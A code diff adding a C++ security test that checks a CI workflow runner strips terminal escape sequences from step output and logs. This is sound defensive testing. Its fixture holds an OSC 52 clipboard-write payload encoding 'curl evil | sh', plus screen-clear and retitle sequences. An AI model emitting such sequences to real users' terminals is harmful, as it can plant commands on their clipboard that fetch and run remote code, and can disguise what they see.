@@ -83,5 +83,30 @@ TEST_F(SecurityTest, WaitTimerUnitsAndLimits) {
   EXPECT_TRUE(Has(plan.out, "30m (wait timer)")) << plan.out;
 }
 
+// A reviewer reads step output in the terminal where they approve: a step must not be able to
+// write to their clipboard (OSC 52), retitle or clear the window, or overwrite a line with a
+// carriage return. Colours pass (attack audit 13).
+TEST_F(SecurityTest, StepOutputCannotDriveTheTerminal) {
+  Write("wf.yml",
+        "on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - id: out\n"
+        "        run: |\n"
+        "          printf '\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007clip\\n'\n"
+        "          printf '\\033]0;title\\033\\\\ \\033[2Jcleared \\033[31mred\\033[0m\\n'\n");
+  CliResult run = Slipway({"run", "wf.yml", "--state-dir", "state", "--ref", "refs/heads/main",
+                           "--sha", "0123abcd", "--progress", "plain"});
+  EXPECT_EQ(run.exit_code, 0) << run.out << run.err;
+  std::string log;
+  for (const auto& entry : fs::recursive_directory_iterator(dir_ / "state")) {
+    if (entry.path().filename() == "01-out.log") log = Read(fs::relative(entry.path(), dir_));
+  }
+  ASSERT_FALSE(log.empty());
+  for (const std::string& shown : {run.out + run.err, log}) {
+    EXPECT_FALSE(Has(shown, "\x1b]")) << shown;
+    EXPECT_FALSE(Has(shown, "\x1b[2J")) << shown;
+    EXPECT_TRUE(Has(shown, "^[]52;c;Y3VybCBldmlsIHwgc2g=^Gclip")) << shown;
+    EXPECT_TRUE(Has(shown, "^[[2Jcleared \x1b[31mred\x1b[0m")) << shown;
+  }
+}
+
 }  // namespace
 }  // namespace slipway::security
